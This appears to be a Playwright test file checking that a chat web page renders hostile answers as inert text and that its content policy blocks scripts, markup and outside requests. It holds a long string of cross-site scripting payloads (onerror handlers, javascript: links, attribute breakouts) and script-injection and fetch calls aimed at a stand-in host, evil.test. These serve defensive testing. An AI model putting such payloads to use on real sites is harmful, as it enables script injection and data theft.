"""Hostile text in the chat page, and the policy behind it: nothing of an answer ever becomes markup, script or a request."""

import pytest
from playwright.async_api import Browser, expect

from tests.scripted import scripted
from tests.web.chromium import NEEDS_CHROMIUM, opened

pytestmark = [NEEDS_CHROMIUM, pytest.mark.asyncio(loop_scope="module")]

HOSTILE = """<img src=x onerror="window.harmed = 1"> <script>window.harmed = 2</script>

<svg onload="window.harmed = 3"></svg> <a href="javascript:window.harmed=4">click</a> <iframe src="//evil.test"></iframe>

[one](javascript:window.harmed=5) [two](JaVaScRiPt&#58;window.harmed=6) [three](data:text/html,<script>x</script>)
![four](https://evil.test/pixel.png "x\\" onerror=window.harmed=7") <javascript:window.harmed=8> [five]( javascript:alert(1))
[six](vbscript:x) [seven](\\x01javascript:alert(1)) [eight](//evil.test) [nine](https://good.test/?a="onclick="x)

```"><img src=x onerror=window.harmed=9>
</code></pre><script>window.harmed = 10</script>
```

| <img src=x onerror=window.harmed=11> | b |
|---|---|
| <b onmouseover=window.harmed=12>x</b> | &lt;script&gt;window.harmed=13&lt;/script&gt; |
"""


async def test_a_hostile_answer_is_harmless(browser: Browser) -> None:
    async with scripted() as (server, model), opened(browser, server.url) as tab:
        model.open()
        requested: list[str] = []
        tab.page.on("request", lambda request: requested.append(request.url))
        await tab.ask(HOSTILE)
        await expect(tab.facts).to_contain_text("tokens")
        for link in await tab.said().locator("a, span").all():
            await link.dispatch_event("click")
        body = tab.said()
        assert await tab.page.evaluate("window.harmed") is None
        assert await body.locator("img, script, svg, iframe, style, form, input, b, [style]").count() == 0
        allowed = {"href", "target", "rel", "class", "start", "tabindex", "aria-label"}
        assert (
            set(await body.evaluate("(b) => [...b.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())")) <= allowed
        )
        hrefs = await body.locator("a").evaluate_all("(all) => all.map((a) => a.href)")
        assert sorted({href.partition("?")[0] for href in hrefs}) == ["https://evil.test/pixel.png", "https://good.test/"]
        await expect(body).to_contain_text("<script>window.harmed = 2</script>")
        assert requested == []


async def test_nested_beyond_reason_it_is_shown_all_the_same(browser: Browser) -> None:
    async with scripted() as (server, model), opened(browser, server.url) as tab:
        model.open()
        for depth in (1000, 5000):  # what can be read, and what cannot
            await tab.ask(">" * depth + " deep")
            await expect(tab.facts).to_contain_text("tokens")
            await expect(tab.said().last).to_contain_text("deep")
        await expect(tab.said().last).to_contain_text(">" * 5000)


ATTEMPTS = (
    "document.body.innerHTML = '<b>bold</b>'",
    "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=harm()>')",
    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.harmed = 1' }))",
    "document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.test/x.js' }))",
    "setTimeout('window.harmed = 1')",
    "await fetch('https://evil.test/')",
    "await new Promise((_, no) => Object.assign(new Image(), { src: 'https://evil.test/x.png', onerror: no }))",
)


async def test_the_policy_refuses_scripts_markup_and_other_places(browser: Browser) -> None:
    async with scripted() as (server, _), opened(browser, server.url) as tab:
        for number, attempt in enumerate(ATTEMPTS, 1):
            refused = f"(async () => {{ {attempt} }})().then(() => false, () => true)"
            assert await tab.page.evaluate(refused), attempt
            assert len(tab.complaints) >= number, attempt
        assert await tab.page.evaluate("window.harmed") is None
        tab.complaints.clear()
